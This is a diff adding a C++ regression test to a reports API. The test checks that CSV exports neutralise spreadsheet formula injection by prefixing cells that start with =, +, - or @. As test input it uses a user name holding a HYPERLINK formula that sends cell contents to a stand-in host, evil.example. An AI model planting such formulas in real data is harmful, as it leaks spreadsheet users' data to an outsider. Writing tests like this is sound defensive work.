@@ -3,6 +3,7 @@
 // JSON and as CSV, with filters by date and workflow, the right it needs and the 422s.
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <map>
 #include <string>
 #include <vector>
@@ -324,6 +325,42 @@ TEST_P(ReportsTest, CsvHasOneRowPerFigure) {
       "GET", "/api/v1/reports" + query, "",
       {{"Authorization", "Bearer " + viewer_.token}, {"Accept", "application/json, text/csv;q=0.5"}});
   EXPECT_EQ(json_first.json()["total"], 5);
+}
+
+// Issue 24: names and labels that people choose went out as spreadsheet formulas.
+TEST_P(ReportsTest, CsvCellsThatASpreadsheetWouldRunAreWrittenAsText) {
+  auto formula_user = call(admin_, "POST", "/api/v1/users",
+                           {{"email", "mallory@example.com"},
+                            {"name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"},
+                            {"role", "agent"},
+                            {"password", "password-mallory-1234"}});
+  ASSERT_EQ(formula_user.status, 201) << formula_user.body;
+  const int64_t formula_reason = reason("formula", "=1+2", "@SUM(A1:A9)");
+  ticket("2026-11-26T08:00:00Z", {{"reason", formula_reason}, {"assignees", {{"assignee", "mallory@example.com"}}}});
+  app_->clock().set(at("2026-11-26T12:00:00Z"));
+
+  auto french = app_->add_user("valerie@example.com", "viewer");
+  ASSERT_EQ(call(french, "PATCH", "/api/v1/users/" + std::to_string(french.user.id), {{"language", "fr"}}).status, 200);
+  for (const auto* who : {&viewer_, &french}) {
+    auto r = call(*who, "GET", "/api/v1/reports?from=2026-11-26&to=2026-11-26&format=csv");
+    ASSERT_EQ(r.status, 200) << r.body;
+    CsvReader reader(r.body);
+    std::vector<std::string> labels;
+    while (auto record = reader.next()) {
+      if (!*record) break;
+      for (const auto& f : (*record)->fields) {
+        EXPECT_FALSE(!f.empty() && (f[0] == '=' || f[0] == '+' || f[0] == '-' || f[0] == '@')) << f << " in\n" << r.body;
+      }
+      labels.push_back((*record)->fields.at(2));
+    }
+    const std::string reason_label = who == &viewer_ ? "'=1+2" : "'@SUM(A1:A9)";
+    EXPECT_NE(std::find(labels.begin(), labels.end(), reason_label), labels.end()) << r.body;
+    EXPECT_NE(std::find(labels.begin(), labels.end(), "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"), labels.end())
+        << r.body;
+  }
+  // The JSON report keeps the text as it is: only spreadsheets need the guard.
+  auto j = report("?from=2026-11-26&to=2026-11-26");
+  EXPECT_EQ(j["by_reason"][0]["label"], "=1+2") << j.dump();
 }
 
 TEST_P(ReportsTest, AMedianThatIsNotAWholeNumberOfSecondsKeepsItsFraction) {
